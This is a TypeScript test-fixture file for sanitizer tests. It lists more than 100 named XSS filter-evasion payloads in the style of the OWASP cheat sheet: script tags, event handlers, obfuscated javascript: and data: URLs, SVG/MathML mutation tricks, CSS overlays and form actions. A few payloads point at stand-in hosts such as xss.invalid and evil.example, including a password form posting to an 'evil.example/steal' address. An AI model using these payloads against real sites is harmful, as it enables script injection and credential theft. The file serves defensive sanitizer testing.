/**
 * XSS payloads in the style of the OWASP XSS filter evasion cheat sheet, for the sanitizer
 * tests (sanitize.test.ts) and the browser check (e2e/xss.e2e.ts). Payloads that run code set
 * `window.__xss` (or open a dialog) so a browser can tell when one fires. Pure data: no imports.
 */

const X = "window.__xss=1";
/** A data:text/html document with a script in it, base64-encoded. */
const HTML_B64 = "PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==";
/** An SVG with an onload handler, base64-encoded. */
const SVG_B64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9feHNzPTEiLz4=";
/** "javascript:" as decimal entities, with and without semicolons and zero padding. */
const JS_DEC = [..."javascript:"].map((c) => `&#${c.charCodeAt(0)};`).join("");
const JS_DEC_PADDED = [..."javascript:"].map((c) => `&#${String(c.charCodeAt(0)).padStart(7, "0")}`).join("");
const JS_HEX = [..."javascript:"].map((c) => `&#x${c.charCodeAt(0).toString(16)}`).join("");

export interface XssPayload {
  /** What the payload tries. */
  name: string;
  html: string;
}

const scripts: Array<[string, string]> = [
  ["plain script", `<script>${X}</script>`],
  ["script with type", `<script type="text/javascript">${X}</script>`],
  ["remote script, upper case", `<SCRIPT SRC=https://xss.invalid/xss.js></SCRIPT>`],
  ["script with slash attribute", `<script/xss src="https://xss.invalid/xss.js"></script>`],
  ["protocol-relative script", `<SCRIPT SRC=//xss.invalid/.j>`],
  ["extra open bracket", `<<SCRIPT>${X};//<</SCRIPT>`],
  ["script split by nested script", `<scr<script>ipt>${X}</scr</script>ipt>`],
  ["unclosed script", `<script>${X}</script`],
  ["quote confusion before script", `<IMG """><SCRIPT>${X}</SCRIPT>">`],
  ["attribute with > before src", `<SCRIPT a=">" SRC="https://xss.invalid/xss.js"></SCRIPT>`],
  ["nameless attribute before src", `<SCRIPT =">" SRC="https://xss.invalid/xss.js"></SCRIPT>`],
  ["document.write split", `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://xss.invalid/xss.js"></SCRIPT>`],
  ["fromCharCode alert", `<script>alert(String.fromCharCode(88,83,83))</script>`],
  ["breaking out of an attribute", `"><script>${X}</script>`],
  ["closing the paragraph first", `</p><script>${X}</script><p>`],
  ["comment-hidden script end", `<script>/*</script><img src=x onerror=${X}>*/</script>`],
];

const handlers: Array<[string, string]> = [
  ["img onerror", `<img src=x onerror=${X}>`],
  ["img onerror, mixed case", `<img src="x" oNeRrOr="${X}">`],
  ["img slashes instead of spaces", `<img/src=x/onerror=${X}>`],
  ["img closed by </img>", `<IMG SRC=/ onerror="${X}"></img>`],
  ["img onerror with javascript: label", `<img src=x:x onerror=javascript:${X}>`],
  ["img onerror entity-encoded code", `<img src=x onerror="&#119;&#105;ndow.__xss=1">`],
  ["img onload on a data image", `<img src="data:image/png;base64,iVBORw0KGgo=" onload="${X}">`],
  ["img onmouseover", `<IMG SRC=# onmouseover="${X}">`],
  ["img without src", `<IMG onmouseover="${X}">`],
  ["body onload", `<body onload=${X}>`],
  ["body onpageshow", `<body onpageshow="${X}">`],
  ["svg onload", `<svg onload=${X}>`],
  ["svg/onload", `<svg/onload=${X}>`],
  ["div onmouseover", `<div onmouseover="${X}">hover</div>`],
  ["p onclick", `<p onclick="${X}">click</p>`],
  ["h1 onauxclick", `<h1 onauxclick="${X}">title</h1>`],
  ["li onmouseenter", `<ul><li onmouseenter="${X}">item</li></ul>`],
  ["td onpointerenter", `<table><tbody><tr><td onpointerenter="${X}">cell</td></tr></tbody></table>`],
  ["span onanimationstart", `<span style="animation-name:spin" onanimationstart="${X}">spin</span>`],
  ["a onclick with a good href", `<a href="https://example.com" onclick="${X}">link</a>`],
  ["a onfocus autofocus", `<a href="https://example.com" onfocus="${X}" autofocus tabindex="1">focus</a>`],
  ["checkbox onfocus autofocus", `<input type="checkbox" autofocus onfocus="${X}">`],
  ["text input onfocus autofocus", `<input onfocus=${X} autofocus>`],
  ["details ontoggle", `<details open ontoggle=${X}><summary>s</summary></details>`],
  ["video source onerror", `<video><source onerror="${X}"></video>`],
  ["audio onerror", `<audio src=x onerror=${X}>`],
  ["marquee onstart", `<marquee onstart=${X}>m</marquee>`],
  ["allowed iframe with onload", `<iframe onload=${X} src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`],
  ["div onwheel", `<div style="width:100px;height:100px" onwheel="${X}">w</div>`],
  ["unknown tag onclick", `<x onclick=${X}>click me`],
  ["select onfocus autofocus", `<select onfocus=${X} autofocus><option>o</option></select>`],
  ["textarea onfocus autofocus", `<textarea onfocus=${X} autofocus>t</textarea>`],
  ["unterminated img tag", `<img src=x onerror=${X}//`],
  ["double brackets", `<<img src=x onerror=${X}>>`],
  ["img inside an unclosed div tag", `<div><img src=x onerror=${X}</div>`],
  ["backtick-quoted src", "<img src=`x`onerror=" + X + ">"],
];

const urls: Array<[string, string]> = [
  ["a javascript:", `<a href="javascript:${X}">x</a>`],
  ["a JaVaScRiPt:", `<a href="JaVaScRiPt:${X}">x</a>`],
  ["a leading spaces", `<a href="  javascript:${X}">x</a>`],
  ["a raw tab inside scheme", `<a href="jav\tascript:${X}">x</a>`],
  ["a &#x09; inside scheme", `<a href="jav&#x09;ascript:${X}">x</a>`],
  ["a &#x0A; inside scheme", `<a href="jav&#x0A;ascript:${X}">x</a>`],
  ["a &#x0D; inside scheme", `<a href="jav&#x0D;ascript:${X}">x</a>`],
  ["a &Tab; and &NewLine;", `<a href="&Tab;java&NewLine;script:${X}">x</a>`],
  ["img NUL inside scheme", `<IMG SRC=java\0script:alert("XSS")>`],
  ["a control char before scheme", `<a href="&#1;javascript:${X}">x</a>`],
  ["a &#14; and spaces before scheme", `<a href=" &#14;  javascript:${X}">x</a>`],
  ["a decimal entities", `<a href="${JS_DEC}${X}">x</a>`],
  ["a padded decimal entities, no semicolons", `<a href="${JS_DEC_PADDED}${X}">x</a>`],
  ["a hex entities, no semicolons", `<a href="${JS_HEX}${X}">x</a>`],
  ["a upper-case hex entity", `<a href="&#X6A;avascript:${X}">x</a>`],
  ["a &colon;", `<a href="javascript&colon;${X}">x</a>`],
  ["a &#58;", `<a href="jAvAsCrIpT&#58;${X}">x</a>`],
  ["a percent-encoded body", `<a href="javascript:%77indow.__xss%3D1">x</a>`],
  ["a percent-encoded scheme", `<a href="%6A%61%76%61%73%63%72%69%70%74:${X}">x</a>`],
  ["a comment inside scheme", `<a href="javas<!-- -->cript:${X}">x</a>`],
  ["a unquoted", `<a href=javascript:${X} >x</a>`],
  ["a vbscript:", `<a href="vbscript:msgbox(1)">x</a>`],
  ["a VBSCRIPT&colon;", `<a href="VBSCRIPT&colon;msgbox(1)">x</a>`],
  ["a data:text/html base64", `<a href="data:text/html;base64,${HTML_B64}">x</a>`],
  ["a DATA:text/html with leading space", `<a href=" DATA:text/html,<script>${X}</script>">x</a>`],
  ["a data:text/html percent-encoded", `<a href="data:text/html;charset=utf-8,%3Cscript%3E${X}%3C/script%3E">x</a>`],
  ["img javascript:", `<img src="javascript:${X}">`],
  ["img JaVaScRiPt: unquoted", `<IMG SRC=JaVaScRiPt:${X}>`],
  ["img javascript: with &quot;", `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`],
  ["img javascript: in backticks", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"],
  ["img data:text/html", `<img src="data:text/html;base64,${HTML_B64}">`],
  ["img data:image/svg+xml", `<img src="data:image/svg+xml;base64,${SVG_B64}">`],
  ["img control char before data:", `<img src="&#1;data:text/html;base64,${HTML_B64}">`],
  ["img tab inside data:", `<img src="da&#9;ta:image/svg+xml;base64,${SVG_B64}">`],
  ["img image/png without base64", `<img src="data:image/png,<svg onload=${X}>">`],
  ["iframe javascript:", `<iframe src="javascript:${X}"></iframe>`],
  ["iframe data:text/html", `<iframe src="data:text/html;base64,${HTML_B64}"></iframe>`],
  ["iframe srcdoc", `<iframe srcdoc="<img src=x onerror=${X}>"></iframe>`],
  [
    "iframe srcdoc on an allowed host",
    `<iframe src="https://www.youtube.com/embed/x" srcdoc="&lt;script&gt;${X}&lt;/script&gt;"></iframe>`,
  ],
  ["iframe on another host", `<iframe src="https://evil.example/embed/x"></iframe>`],
  ["iframe look-alike host", `<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>`],
  ["iframe userinfo trick", `<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>`],
  ["iframe protocol-relative", `<iframe src="//www.youtube.com/embed/x"></iframe>`],
  ["iframe over http", `<iframe src="http://www.youtube.com/embed/x"></iframe>`],
  ["iframe without src", `<iframe><img src=x onerror=${X}></iframe>`],
  ["frameset frame", `<frameset><frame src="javascript:${X}"></frameset>`],
  ["table background", `<table background="javascript:${X}"><tbody><tr><td>t</td></tr></tbody></table>`],
  ["td background", `<table><tbody><tr><td background="javascript:${X}">t</td></tr></tbody></table>`],
  ["body background", `<body background="javascript:${X}">`],
  ["video poster", `<video poster="javascript:${X}" src="https://example.com/v.mp4"></video>`],
  ["object data javascript:", `<object data="javascript:${X}"></object>`],
  ["object data:text/html", `<object data="data:text/html;base64,${HTML_B64}"></object>`],
  ["object scriptlet", `<object type="text/x-scriptlet" data="https://xss.invalid/scriptlet.html"></object>`],
  ["embed javascript:", `<embed src="javascript:${X}">`],
  ["embed svg", `<embed src="data:image/svg+xml;base64,${SVG_B64}" type="image/svg+xml">`],
  ["base href", `<base href="javascript:/a/-alert(1)///////"><a href="x">x</a>`],
  ["link stylesheet javascript:", `<link rel="stylesheet" href="javascript:${X}">`],
  ["link import", `<link rel="import" href="data:text/html;base64,${HTML_B64}">`],
  ["meta refresh javascript:", `<meta http-equiv="refresh" content="0;url=javascript:${X}">`],
  ["meta refresh data:", `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${HTML_B64}">`],
  [
    "meta charset utf-7",
    `<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi`,
  ],
  ["bgsound", `<bgsound src="javascript:${X}">`],
  ["isindex", `<isindex action="javascript:${X}" type="image">`],
];

const svgMath: Array<[string, string]> = [
  ["svg script", `<svg><script>${X}</script></svg>`],
  ["svg a xlink:href", `<svg><a xlink:href="javascript:${X}"><text x="20" y="20">XSS</text></a></svg>`],
  ["svg a href", `<svg><a href="javascript:${X}"><text x="20" y="20">XSS</text></a></svg>`],
  ["svg animate onbegin", `<svg><animate onbegin=${X} attributeName=x dur=1s>`],
  ["svg set onmouseover", `<svg><set attributeName="onmouseover" to="${X}"/></svg>`],
  [
    "svg animate href",
    `<svg><a><animate attributeName="href" values="javascript:${X}"/><text x="20" y="20">x</text></a></svg>`,
  ],
  ["svg use data:", `<svg><use href="data:image/svg+xml;base64,${SVG_B64}#x"/></svg>`],
  ["svg image href", `<svg><image href="javascript:${X}"/></svg>`],
  [
    "svg foreignObject iframe",
    `<svg><foreignObject><iframe srcdoc="<script>${X}</script>"></iframe></foreignObject></svg>`,
  ],
  ["svg desc CDATA", `<svg><desc><![CDATA[</desc><script>${X}</script>]]></svg>`],
  ["svg style img", `<svg><style><img src=x onerror=${X}></style></svg>`],
  ["svg p style a title", `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`],
  ["math a xlink:href", `<math><a xlink:href="javascript:${X}">click</a></math>`],
  ["math href", `<math href="javascript:${X}">CLICKME</math>`],
  [
    "math maction",
    `<math><maction actiontype="statusline" xlink:href="javascript:${X}">CLICKME<mtext>http://x</mtext></maction></math>`,
  ],
  [
    "math annotation-xml",
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${X}></annotation-xml></math>`,
  ],
  ["math mglyph style", `<math><mtext><table><mglyph><style><img src=x onerror=${X}>`],
  [
    "math mglyph svg textarea",
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${X}>"></style></mtext></svg></mglyph></h1></mtext></math>`,
  ],
  ["math form nesting", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`],
  [
    "math mglyph svg path id",
    `<math><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${X} src=1>"></path></textarea></mtext></svg></mglyph></math>`,
  ],
];

const css: Array<[string, string]> = [
  ["style url(javascript:)", `<p style="background-image:url(javascript:${X})">x</p>`],
  ["style quoted url(javascript:)", `<div style="background:url('javascript:${X}')">x</div>`],
  ["style expression()", `<div style="width:expression(${X})">x</div>`],
  ["style comment-split expression", `<div style="xss:expr/*XSS*/ession(${X})">x</div>`],
  ["img style expression", `<img src="https://example.com/a.png" style="xss:expression(alert('XSS'))">`],
  ["style behavior", `<span style="behavior:url(xss.htc)">x</span>`],
  ["style -moz-binding", `<div style="-moz-binding:url(https://xss.invalid/xss.xml#xss)">x</div>`],
  [
    "style escaped url(javascript:)",
    `<div style="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">x</div>`,
  ],
  ["style element @import", `<style>@import 'https://xss.invalid/xss.css';</style>`],
  ["style element url(javascript:)", `<STYLE type="text/css">BODY{background:url("javascript:${X}")}</STYLE>`],
  ["style element class then a", `<STYLE>.XSS{background-image:url("javascript:${X}");}</STYLE><A CLASS=XSS></A>`],
  ["style element overlay", `<style>body::after{content:'';position:fixed;inset:0}</style>`],
  [
    "overlay via position:fixed",
    `<a href="https://example.com" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>`,
  ],
  ["overlay via position:absolute", `<div style="position: absolute; top: 0; left: 0; z-index: 9999">overlay</div>`],
  ["position:fixed !important", `<p style="color:red;position:fixed !important">x</p>`],
  ["position:sticky after allowed styles", `<span style="color: red; font-family: x;position:sticky">x</span>`],
  ["escaped property name", `<p style="pos\\ition:fixed">x</p>`],
  ["style that closes its rule", `<span style="color:red;}body{position:fixed">x</span>`],
  ["utility classes overlay", `<div class="fixed inset-0 z-50 bg-black">overlay</div>`],
  ["editor class plus overlay class", `<div class="ql-editor absolute top-0 left-0 w-screen h-screen">overlay</div>`],
];

const forms: Array<[string, string]> = [
  ["form action javascript:", `<form action="javascript:${X}"><input type="submit" value="go"></form>`],
  ["button formaction", `<form><button formaction="javascript:${X}">go</button></form>`],
  ["image input formaction", `<input type="image" formaction="javascript:${X}" src="https://example.com/a.png">`],
  ["image input src javascript:", `<input type="image" src="javascript:${X}">`],
  ["checkbox formaction and form", `<form id="f"></form><input type="checkbox" form="f" formaction="javascript:${X}">`],
  ["password phishing input", `<form action="https://evil.example/steal"><input type="password" name="p"></form>`],
  ["hidden input accesskey onclick", `<input type="hidden" accesskey="X" onclick="${X}">`],
  ["label onclick", `<label for="x" onclick="${X}">label</label>`],
  ["keygen autofocus", `<keygen autofocus onfocus=${X}>`],
];

const mutation: Array<[string, string]> = [
  ["template content", `<template><img src=x onerror=${X}></template>`],
  ["noscript title breakout", `<noscript><p title="</noscript><img src=x onerror=${X}>"></noscript>`],
  ["p title breakout", `<p title="</p><img src=x onerror=${X}>">x</p>`],
  ["comment breakout", `<!--<img src="--><img src=x onerror=${X}//">`],
  ["short comment", `<!--><img src=x onerror=${X}>-->`],
  ["CDATA in HTML", `<![CDATA[<img src=x onerror=${X}>]]>`],
  ["processing instruction", `<?xml version="1.0"?><x onclick="${X}">x</x>`],
  ["xmp", `<xmp><img src=x onerror=${X}></xmp>`],
  ["noembed", `<noembed><img src=x onerror=${X}></noembed>`],
  ["noframes", `<noframes><img src=x onerror=${X}></noframes>`],
  ["textarea content", `<textarea><img src=x onerror=${X}></textarea>`],
  ["title content", `<title><img src=x onerror=${X}></title>`],
  ["select option img", `<select><option><img src=x onerror=${X}></option></select>`],
  ["select template style", `<select><template><style><img src=x onerror=${X}></style></template></select>`],
  ["table foster parenting", `<table><td><img src=x onerror=${X}></table>`],
  ["listing", `<listing><img src=x onerror=${X}></listing>`],
  ["plaintext", `<plaintext><img src=x onerror=${X}>`],
  ["nested links", `<a href="https://example.com">x<a href="javascript:${X}">y</a></a>`],
  ["entity-encoded markup in a data attribute", `<div data-x="<script>${X}</script>">data</div>`],
];

/** At least 100 distinct payloads (checked by the tests). */
export const XSS_PAYLOADS: readonly XssPayload[] = [
  ...scripts,
  ...handlers,
  ...urls,
  ...svgMath,
  ...css,
  ...forms,
  ...mutation,
].map(([name, html]) => ({ name, html }));
